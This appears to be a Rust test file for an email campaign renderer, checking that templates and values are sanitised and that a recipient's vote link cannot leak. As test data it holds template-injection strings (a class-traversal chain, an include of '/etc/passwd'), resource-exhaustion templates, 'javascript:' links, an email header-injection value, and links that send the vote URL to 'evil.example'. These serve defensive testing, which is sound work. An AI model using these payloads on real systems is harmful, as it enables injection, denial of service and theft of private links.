//! What is asked of campaigns: that hostile ones do nothing, that placeholders are no programs, and that honest ones read well.

use super::sanitise::{ELEMENTS, REL, SCHEMES, may_lead_to, sanitised};
use super::{CampaignText, CampaignValues, MOST_OF_BODY, MOST_OF_SUBJECT, check_campaign, render_campaign};
use crate::EventFacts;
use kernel::{EventId, TypedId};
use std::time::Instant;
use uuid::Uuid;

const VOTE: &str = "https://events.example.org/vote/_a-b_c_";

/// Hostile texts of every kind that is known, as JSON.
fn attacks() -> Vec<String> {
    let attacks: Vec<String> = serde_json::from_str(include_str!("attacks.json")).expect("texts");
    assert!(attacks.len() > 200);
    attacks
}

fn event(title: &str, place: &str) -> EventFacts {
    EventFacts {
        id: EventId::from_uuid(Uuid::nil()),
        title: title.to_owned(),
        starts_at: "2026-11-03T12:30:00Z".parse().expect("a time"),
        ends_at: None,
        time_zone: "Asia/Kolkata".to_owned(),
        location: Some(place.to_owned()),
    }
}

/// A copy in which every value is this.
fn copy_with(subject: &str, body: &str, value: &str) -> CampaignText {
    let event = event(value, value);
    let values = CampaignValues {
        name: value,
        event: &event,
        candidate: value,
        talk: value,
        vote_url: VOTE,
    };
    render_campaign(subject, body, &values).unwrap_or_else(|problem| panic!("{problem}: {body}"))
}

fn copy(body: &str) -> CampaignText {
    copy_with("Vote", body, "Asha")
}

/// Reads a page strictly: whatever opens with `<` is an element of the list in the one form in which it is written, closed in
/// turn, and a link leads where links may.
fn assert_harmless(html: &str, of: &str) {
    let mut open = Vec::new();
    let mut pieces = html.split('<');
    let text = |text: &str| assert!(!text.contains('>'), "{of:?} became {html}");
    text(pieces.next().unwrap_or_default());
    for piece in pieces {
        let (tag, after) = piece
            .split_once('>')
            .unwrap_or_else(|| panic!("{of:?} became {html}"));
        text(after);
        if let Some(name) = tag.strip_prefix('/') {
            assert_eq!(open.pop(), Some(name), "{of:?} became {html}");
            continue;
        }
        let (name, attributes) = tag.split_once(' ').unwrap_or((tag, ""));
        assert!(ELEMENTS.contains(&name), "{of:?} became {html}");
        if name != "a" {
            assert_eq!(attributes, "", "{of:?} became {html}");
        } else if !attributes.starts_with("rel=") {
            assert_link(attributes, html, of);
        }
        if !["br", "hr"].contains(&name) {
            open.push(name);
        }
    }
    assert!(open.is_empty(), "{of:?} became {html}");
}

fn assert_link(attributes: &str, html: &str, of: &str) {
    let url = attributes
        .strip_prefix("href=\"")
        .and_then(|rest| rest.strip_suffix(&format!("\" rel=\"{REL}\"")))
        .unwrap_or_else(|| panic!("{of:?} became {html}"));
    assert!(!url.contains('"'), "{of:?} became {html}");
    let scheme = url.split_once(':').map_or("", |(scheme, _)| scheme);
    let is_allowed = SCHEMES.iter().any(|known| scheme.eq_ignore_ascii_case(known));
    assert!(is_allowed, "{of:?} became {html}");
}

#[test]
fn no_hostile_text_gets_beyond_the_list() {
    for attack in attacks() {
        for body in [
            attack.clone(),
            format!("Hello **{attack}** there"),
            format!("> - {attack}\n\nafter"),
            format!("[words]({attack})"),
            format!("<div>\n{attack}\n\n</div>"),
        ] {
            // What is no template is refused, and cannot be a copy.
            let event = event("A talk", "Hall 1");
            let values = CampaignValues {
                name: "Asha",
                event: &event,
                candidate: "Cleo",
                talk: "Locks",
                vote_url: VOTE,
            };
            match render_campaign("Vote", &body, &values) {
                Ok(copy) => assert_harmless(&copy.html, &body),
                Err(problem) => assert!(body.contains("{%") || body.contains("{{"), "{problem}: {body}"),
            }
        }
    }
}

#[test]
fn no_value_is_markup_wherever_it_stands() {
    let body = "{{ name }} **{{ event }}** [{{ candidate }}](https://x.example/?q={{ talk }}) `{{ place }}`\n\n\
                {{ name }}\n===\n\n- {{ name }}\n\n1. {{ talk }}\n\n> {{ place }}\n\n[x]({{ name }}) ![{{ name }}]({{ name }})\n\n\
                    {{ name }}\n\n[{{ name }}]: https://x.example \"{{ name }}\"\n\n<{{ name }}> &{{ name }}; \\{{ name }}";
    for attack in attacks().iter().map(String::as_str).chain([
        "[x](javascript:…)",
        "# x",
        "1. x",
        "*x*",
        "`x`",
        "&amp;",
        "---",
    ]) {
        let shown = copy_with("{{ name }}", body, attack);
        assert_harmless(&shown.html, attack);
        // The same elements as with a value that nobody could take for markup.
        let plain = copy_with("{{ name }}", body, "Asha");
        assert_eq!(
            elements(&shown.html),
            elements(&plain.html),
            "{attack:?} became {}",
            shown.html
        );
        assert!(!shown.subject.chars().any(char::is_control), "{attack:?}");
    }
}

fn elements(html: &str) -> Vec<&str> {
    let tags = html.split('<').skip(1);
    tags.map(|tag| tag.split([' ', '>']).next().unwrap_or_default())
        .collect()
}

/// The last guard by itself, with what no guard before it has seen.
#[test]
fn the_sanitiser_leaves_nothing_of_hostile_html() {
    for attack in attacks() {
        for html in [
            attack.clone(),
            format!("<p>{attack}"),
            format!("<ul><li>{attack}</ul></p></div>"),
        ] {
            assert_harmless(&sanitised(&html), &html);
        }
    }
    assert_eq!(
        sanitised(
            "<p id=a class=b style=color:red dir=rtl>x<a href='HTTPS://x.example/?a=1&b' title=t name=n>y</a><img src=x>"
        ),
        format!("<p>x<a href=\"HTTPS://x.example/?a=1&amp;b\" rel=\"{REL}\">y</a></p>")
    );
    assert_eq!(sanitised("a<b><i>c</div></td>"), "ac");
}

/// The first guard by itself.
#[test]
fn a_link_leads_to_web_and_mail_addresses_alone() {
    for good in ["https://x.example", "HTTP://x.example/?a", "mailto:a@b.example"] {
        assert!(may_lead_to(good), "{good}");
    }
    for bad in [
        "",
        "x",
        "/x",
        "//x",
        "#x",
        "javascript:alert(1)",
        "java\tscript:x",
        " https://x",
        "https:x",
        "https://",
        "mailto:",
        "ftp://x",
        "https://x y",
        "https://x\ny",
        "data:,x",
        "\u{1}https://x",
    ] {
        assert!(!may_lead_to(bad), "{bad:?}");
    }
}

#[test]
fn what_is_no_placeholder_is_refused_before_it_costs_anything() {
    let nested_loops = "{% for a in name %}".repeat(40) + &"{% endfor %}".repeat(40);
    let deep = format!("{{{{ {}name{} }}}}", "(".repeat(9_000), ")".repeat(9_000));
    let unary = format!("{{{{ {}name }}}}", "not ".repeat(4_000));
    let minus = format!("{{{{ {}1 }}}}", "-".repeat(9_000));
    let sum = format!("{{{{ 1{} }}}}", "+1".repeat(4_000));
    let members = format!("{{{{ name{} }}}}", ".a".repeat(9_000));
    let lists = format!("{{{{ {}{} }}}}", "[".repeat(9_000), "]".repeat(9_000));
    let ifs = "{% if name %}".repeat(500) + &"{% endif %}".repeat(500);
    for source in [
        "{% for a in range(100000000) %}{% for b in range(100000000) %}x{% endfor %}{% endfor %}",
        "{{ \"x\" * 100000000 }}",
        "{{ 'x' * 1000000000 * 1000000000 }}",
        "{{ [1] * 1000000000 }}",
        "{{ 9 ** 999999999 }}",
        "{{ 10 ** 10 ** 10 }}",
        "{{ \"a\" ~ \"b\" }}",
        "{{ name * 1000000 }}",
        "{{ name|upper }}",
        "{{ name|replace('A', 'BBBBBBBBB') }}",
        "{{ name.upper() }}",
        "{{ name.__class__.__mro__[1].__subclasses__() }}",
        "{{ name[0] }}",
        "{{ self }}",
        "{{ super() }}",
        "{{ debug() }}",
        "{{ range(10) }}",
        "{{ namespace() }}",
        "{{ cycler }}",
        "{{ lipsum() }}",
        "{{ config }}",
        "{{ password }}",
        "{{ NAME }}",
        "{{ name, name }}",
        "{{ name if name }}",
        "{{ name == 1 }}",
        "{{ {} }}",
        "{{ 'x' }}",
        "{{ 7 * 7 }}",
        "{{ true }}",
        "{{ }}",
        "{{",
        "{{ name",
        "{{ name }",
        "{{ {{ name }} }}",
        "{%",
        "{% raw %}",
        "{#",
        "{% include 'x' %}",
        "{% include '/etc/passwd' %}",
        "{% import 'x' as y %}",
        "{% extends 'x' %}",
        "{% block x %}{% endblock %}",
        "{% macro x() %}{{ x() }}{% endmacro %}{{ x() }}",
        "{% set x = 'x' * 1000000000 %}",
        "{% set x %}a{% endset %}",
        "{% if name %}x{% endif %}",
        "{% if 'x' * 100000000 %}x{% endif %}",
        "{% with x = 1 %}{% endwith %}",
        "{% filter upper %}x{% endfilter %}",
        "{% autoescape true %}x{% endautoescape %}",
        "{% do name %}",
        "{% call x() %}{% endcall %}",
        nested_loops.as_str(),
        deep.as_str(),
        unary.as_str(),
        minus.as_str(),
        sum.as_str(),
        members.as_str(),
        lists.as_str(),
        ifs.as_str(),
        &"{{ name }}".repeat(101),
        &"{##}x".repeat(5_000),
        "{{{ name }}}",
        "{ {name}} {{",
        "{{ na\u{200b}me }}",
        "{{-- name }}",
        "a{#b",
    ] {
        let begun = Instant::now();
        let shown: String = source.chars().take(60).collect();
        let event = event("A talk", "Hall 1");
        let values = CampaignValues {
            name: "Asha",
            event: &event,
            candidate: "Cleo",
            talk: "Locks",
            vote_url: VOTE,
        };
        let made = render_campaign("Vote", source, &values);
        assert!(made.is_err(), "{shown} became {made:?}");
        assert!(render_campaign(source, "x", &values).is_err(), "{shown}");
        assert!(check_campaign("Vote", source).is_err(), "{shown}");
        // Not a measurement: what multiplies takes minutes or all memory.
        assert!(begun.elapsed().as_secs() < 5, "{shown}");
    }
}

#[test]
fn the_link_to_vote_comes_to_the_recipient_alone() {
    let refused = |subject: &str, body: &str| -> Vec<String> {
        let invalid = check_campaign(subject, body).err();
        let problems = invalid.map(|invalid| invalid.0).unwrap_or_default();
        problems.into_iter().map(|problem| problem.pointer).collect()
    };
    for body in [
        "[Programme](https://evil.example/?t={{ vote_url }})",
        "[Programme]({{ vote_url }}.evil.example)",
        "[Mail us](mailto:x@evil.example?body={{ vote_url }})",
        "[{{ vote_url }}](https://evil.example)",
        "[**vote: {{ vote_url }}**](https://evil.example)",
        "[`{{ vote_url }}`](https://evil.example)",
        "[![{{ vote_url }}](x.gif)](https://evil.example)",
        "[here][1] and there\n\n[1]: https://evil.example/{{vote_url}} 'title'",
        "[{{ vote_url }}][1]\n\n[1]: https://evil.example",
        "<https://evil.example/?{{ vote_url }}>",
        "<x@evil.example{{vote_url}}>",
        "![a picture](https://evil.example/p.gif?{{ vote_url }})",
        "- > see https://evil.example/?{{ vote_url }}",
        "https://evil.example/?**{{ vote_url }}**",
        "https://evil.example/?<b></b>{{ vote_url }}",
        "    https://evil.example/?{{ vote_url }}",
        "`https://evil.example/?{{ vote_url }}`",
        "https://evil.example/?\\\n{{- vote_url }}",
        "{{ vote_url }}@evil.example",
        "{{ talk }}{{ vote_url }}",
        "{{ vote_url }}{{ vote_url }}",
    ] {
        assert_eq!(refused("Vote", body), ["/body"], "{body}");
    }
    for subject in ["{{ vote_url }}", "Vote at {{vote_url}} now"] {
        assert_eq!(refused(subject, "x"), ["/subject"], "{subject}");
    }
    for body in [
        "[vote]({{ vote_url }})",
        "[vote](<{{ vote_url }}> 'title')",
        "**[Vote for {{ candidate }}]({{ vote_url }})** or [look](https://example.org/{{ event }}) first",
        "[{{ vote_url }}]({{ vote_url }})",
        "[vote][1]\n\n[1]: {{ vote_url }}",
        "Vote ({{ vote_url }}), {{ name }}!",
        "- {{ vote_url }}\n- **{{ vote_url }}**.\n\n[elsewhere](https://example.org)\n\n> {{ vote_url }}",
    ] {
        assert_eq!(refused("Vote", body), Vec::<String>::new(), "{body}");
        // What is refused is not rendered either.
        copy(body);
    }
}

#[test]
fn a_refusal_says_what_and_where() {
    let told = |subject: &str, body: &str| -> Vec<(String, &'static str, String)> {
        let invalid = check_campaign(subject, body)
            .err()
            .map(|invalid| invalid.0)
            .unwrap_or_default();
        invalid
            .into_iter()
            .map(|error| (error.pointer, error.code, error.detail.into_owned()))
            .collect()
    };
    assert!(
        told(
            "Vote for {{ candidate }}",
            "Dear {{name -}}\n\n , {{- name}},\n\n{{ vote_url -}}\n"
        )
        .is_empty()
    );
    let body = told("x", "a\r\nb\n{{ nmae }}");
    assert_eq!((body[0].0.as_str(), body[0].1), ("/body", "format"));
    assert!(
        body[0].2.starts_with("line 3: ") && body[0].2.contains("name, event, date, place"),
        "{body:?}"
    );
    assert!(
        told("x", "a\n\n\n{% for x in y %}{% endfor %}")[0]
            .2
            .starts_with("line 4: ")
    );
    assert!(told("x", "a\n{{ name")[0].2.starts_with("line 2: "));
    assert!(
        told("x", &format!("a\n\n{}x", ">".repeat(30)))[0]
            .2
            .starts_with("line 3: ")
    );
    for (subject, code) in [
        ("", "length"),
        (" ", "length"),
        ("{{ x }}", "format"),
        ("a\nb", "format"),
        ("a\tb", "format"),
    ] {
        let found = told(subject, "x");
        assert_eq!(
            (found[0].0.as_str(), found[0].1),
            ("/subject", code),
            "{subject:?}"
        );
    }
    assert_eq!(told(&"x".repeat(201), &"x".repeat(MOST_OF_BODY + 1)).len(), 2);
    assert!(told(&"ä".repeat(MOST_OF_SUBJECT), &"ä".repeat(MOST_OF_BODY)).is_empty());
}

#[test]
fn a_subject_is_one_line_that_names_the_event() {
    let subject = |source: &str, title: &str| {
        let event = event(title, "Hall 1");
        let values = CampaignValues {
            name: "Asha\r\nBcc: x@example.org",
            event: &event,
            candidate: "Cleo",
            talk: "Locks",
            vote_url: VOTE,
        };
        render_campaign(source, "x", &values).expect("a copy").subject
    };
    assert_eq!(
        subject("Vote for {{ candidate }}", "A talk"),
        "Vote for Cleo · A talk"
    );
    assert_eq!(subject("{{ event }}:  vote!", "A talk"), "A talk: vote!");
    assert_eq!(subject("Vote at A talk", "A talk"), "Vote at A talk");
    assert_eq!(
        subject("{{ name }}", "A talk"),
        "Asha Bcc: x@example.org · A talk"
    );
    assert_eq!(subject("\u{202e}", "A talk"), "A talk");
    assert_eq!(subject("# *x* <b> & {{ talk }}", "T"), "# *x* <b> & Locks · T");
    let long = subject(&"x".repeat(200), &"y".repeat(200));
    assert_eq!(long.chars().count(), 200);
    assert!(
        long.starts_with(&"x".repeat(119)) && long.contains("… · yyy") && long.ends_with("y…"),
        "{long}"
    );
    let many = subject(&"{{ event }}".repeat(18), &"y".repeat(200));
    assert!(many.chars().count() <= 200, "{many}");
}

#[test]
fn markdown_becomes_a_page_and_a_text() {
    let shown = copy(
        "# Hello {{ name }}\n\nI would *like* to **speak**,\nreally.  \nNew line.\n\n- one\n- two\n  1. inner\n  2. more\n\n\
         > quoted\n> more\n\n```\ncode <b>\n```\n\n---\n\n[a link](https://x.example/?a=1&b=2 \"t\"), <https://y.example>, <a@b.example>.\n\n\
         ![a picture](https://x.example/p.gif) <b>bold</b>\n\n{{ vote_url }} and [here]({{ vote_url }})",
    );
    let rel = format!(" rel=\"{REL}\"");
    assert_eq!(
        shown.html,
        format!(
            "<h1>Hello Asha</h1>\n<p>I would <em>like</em> to <strong>speak</strong>,\nreally.<br>\nNew line.</p>\n<ul>\n<li>one</li>\n\
             <li>two\n<ol>\n<li>inner</li>\n<li>more</li>\n</ol>\n</li>\n</ul>\n<blockquote>\n<p>quoted\nmore</p>\n</blockquote>\n\
             <pre><code>code &lt;b&gt;\n</code></pre>\n<hr>\n<p><a href=\"https://x.example/?a=1&amp;b=2\"{rel}>a link</a>, \
             <a href=\"https://y.example\"{rel}>https://y.example</a>, <a href=\"mailto:a@b.example\"{rel}>a@b.example</a>.</p>\n\
             <p>a picture bold</p>\n<p><a href=\"{VOTE}\"{rel}>{VOTE}</a> and <a href=\"{VOTE}\"{rel}>here</a></p>\n"
        )
    );
    assert_eq!(
        shown.text,
        format!(
            "Hello Asha\n\nI would like to speak, really.\nNew line.\n\n- one\n- two\n  1. inner\n  2. more\n\n> quoted more\n\n    code <b>\n\n\
             ----\n\na link (https://x.example/?a=1&b=2), https://y.example, a@b.example.\n\na picture bold\n\n\
             {VOTE} and here\n({VOTE})"
        )
    );
}

#[test]
fn a_link_that_may_not_be_followed_leaves_its_words() {
    let shown = copy("[words](javascript:alert(1)) [more](/here) [rest](<https://a b>)");
    assert_eq!(shown.html, "<p>words more rest</p>\n");
    assert_eq!(shown.text, "words more rest");
}

#[test]
fn html_that_somebody_writes_is_left_out_whatever_it_is() {
    let shown = copy(
        "a <em>b</em> <a href=\"https://x.example\">c</a>\n\n<p>\n<strong>d</strong>\n</p>\n\ne &lt;em&gt;",
    );
    assert_eq!(shown.html, "<p>a b c</p>\n<p>e &lt;em&gt;</p>\n");
    assert_eq!(shown.text, "a b c\n\ne <em>");
}

#[test]
fn a_value_in_an_address_turns_it_nowhere_else() {
    let shown = copy_with(
        "x",
        "[x](https://a.example/{{ name }}?q={{ name }})",
        "../&@evil.test/#ä ",
    );
    assert!(
        shown.html.contains(
            "href=\"https://a.example/..%2F%26%40evil.test%2F%23%C3%A4?q=..%2F%26%40evil.test%2F%23%C3%A4\""
        ),
        "{}",
        shown.html
    );
    assert_eq!(
        copy_with("x", "[x]({{ name }}//evil.test)", "https:").html,
        "<p>x</p>\n"
    );
}

#[test]
fn what_looks_like_a_mark_of_ours_is_none() {
    let forged = "\u{10F606}\u{10F600}";
    let shown = copy_with(forged, &format!("a{forged}b [x]({forged})"), forged);
    assert_eq!(shown.html, "<p>ab x</p>\n");
    assert!(!shown.subject.contains(forged), "{}", shown.subject);
}

#[test]
fn the_costliest_bodies_are_quick_and_bounded() {
    let most = |piece: &str| piece.repeat(MOST_OF_BODY / piece.chars().count());
    for body in [
        most("> "),
        most("- "),
        most("*a **a "),
        most("[a]("),
        most("[a"),
        most("![["),
        most("`"),
        most("`` ` "),
        most("<"),
        most("<a "),
        most("<!--"),
        most("&"),
        most("\\"),
        most("_*"),
        most("a\n\n"),
        most("* * * "),
        most("\t"),
        most("[]: x\n"),
        format!(
            "[a]: https://x.example/{}\n\n{}",
            "x".repeat(9_000),
            "[a]".repeat(3_000)
        ),
        most("<https://x.example>"),
        most("a  \n"),
        "{{ name }}".repeat(100) + &most("&")[..18_000],
    ] {
        let begun = Instant::now();
        let shown: String = body.chars().take(30).collect();
        let event = event(&"\"".repeat(300), "x");
        let values = CampaignValues {
            name: &"\"".repeat(5_000),
            event: &event,
            candidate: "x",
            talk: "x",
            vote_url: VOTE,
        };
        if let Ok(copy) = render_campaign("x", &body, &values) {
            assert!(
                copy.html.len() + copy.text.len() < 1_500_000,
                "{shown}: {}",
                copy.html.len()
            );
            assert_harmless(&copy.html, &shown);
        }
        assert!(begun.elapsed().as_secs() < 5, "{shown}: {:?}", begun.elapsed());
    }
}
